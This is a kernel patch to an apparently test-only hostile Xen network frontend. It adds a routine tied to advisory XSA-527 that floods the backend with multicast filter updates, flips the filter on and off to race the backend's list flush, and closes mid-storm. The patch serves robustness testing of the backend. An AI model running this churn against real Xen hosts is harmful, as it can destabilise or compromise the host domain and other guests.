@@ -1,11 +1,15 @@
 // SPDX-License-Identifier: GPL-2.0
 /*
- * xen-netfront-hostile: leaving in the middle. Half a packet is published
- * and the frontend closes at once; its pages are revoked as the backend
- * tears down (gnttab_end_foreign_access() waits for the backend to let
- * go), so a backend that still reads the ring or holds a mapping after it
- * said Closed shows up in dom0's logs and counts.
+ * xen-netfront-hostile: leaving in the middle, of a packet (half of it is
+ * published) or of a storm of multicast filter updates, and closing at
+ * once. The pages are revoked as the backend tears down
+ * (gnttab_end_foreign_access() waits for the backend to let go), so a
+ * backend that still reads the ring or holds a mapping after it said
+ * Closed shows up in dom0's logs and counts.
  */
+#include <linux/jiffies.h>
+#include <linux/kthread.h>
+
 #include "hostile.h"
 
 #define HOSTILE_WAIT_MS		2000
@@ -17,6 +21,59 @@ int hostile_disconnect_mid(struct hostile *h)
 	hostile_tx_wait(h, HOSTILE_WAIT_MS);
 	hostile_tx_put(h, h->tx_ref[0], 0, XEN_NETTXF_more_data, 3000);
 	hostile_tx_put(h, h->tx_ref[1], 0, XEN_NETTXF_more_data, 1000);
+	hostile_tx_push(h);
+	return xenbus_switch_state(h->dev, XenbusStateClosing);
+}
+
+/* One multicast filter update: a control message of no bytes. */
+static void hostile_mcast(struct hostile *h, u8 type, unsigned int n)
+{
+	struct xen_netif_extra_info e = {
+		.type = type,
+		.u.mcast.addr = { 0x01, 0x00, 0x5e, 0x7f, n >> 8, n & 0xff },
+	};
+
+	hostile_tx_put(h, h->tx_ref[0], 0, XEN_NETTXF_extra_info, 0);
+	hostile_tx_put_extra(h, &e);
+}
+
+static void hostile_mcast_batch(struct hostile *h, u8 type)
+{
+	unsigned int i;
+
+	/* More than any backend keeps (64): the rest must be refused. */
+	for (i = 0; i < 80; i++)
+		hostile_mcast(h, type, i);
+	hostile_tx_push(h);
+	hostile_tx_wait(h, HOSTILE_WAIT_MS);
+}
+
+/*
+ * XSA-527: add and delete multicast addresses as fast as the ring goes,
+ * switch the filter off and on under the backend (which flushes the list
+ * while start_xmit may be reading it), and leave in the middle of it.
+ */
+int hostile_mcast_churn(struct hostile *h)
+{
+	unsigned long end = jiffies + msecs_to_jiffies(hostile_attack_ms);
+	const char *dir = h->dev->nodename;
+	unsigned int rounds = 0;
+
+	while (time_before(jiffies, end) && !kthread_should_stop() &&
+	       hostile_backend_connected(h)) {
+		xenbus_printf(XBT_NIL, dir, XEN_NETIF_KEY_REQUEST_MCAST_CTRL,
+			      "%u", 1);
+		hostile_mcast_batch(h, XEN_NETIF_EXTRA_TYPE_MCAST_ADD);
+		xenbus_printf(XBT_NIL, dir, XEN_NETIF_KEY_REQUEST_MCAST_CTRL,
+			      "%u", rounds & 1);
+		hostile_mcast_batch(h, XEN_NETIF_EXTRA_TYPE_MCAST_DEL);
+		rounds++;
+	}
+	hostile_tx_reap(h);
+	pr_warn("%s: mcast_churn: %u rounds; responses okay %u error %u\n",
+		dir, rounds, h->rsp_okay, h->rsp_error);
+	for (rounds = 0; rounds < 40; rounds++)
+		hostile_mcast(h, XEN_NETIF_EXTRA_TYPE_MCAST_ADD, rounds);
 	hostile_tx_push(h);
 	return xenbus_switch_state(h->dev, XenbusStateClosing);
 }
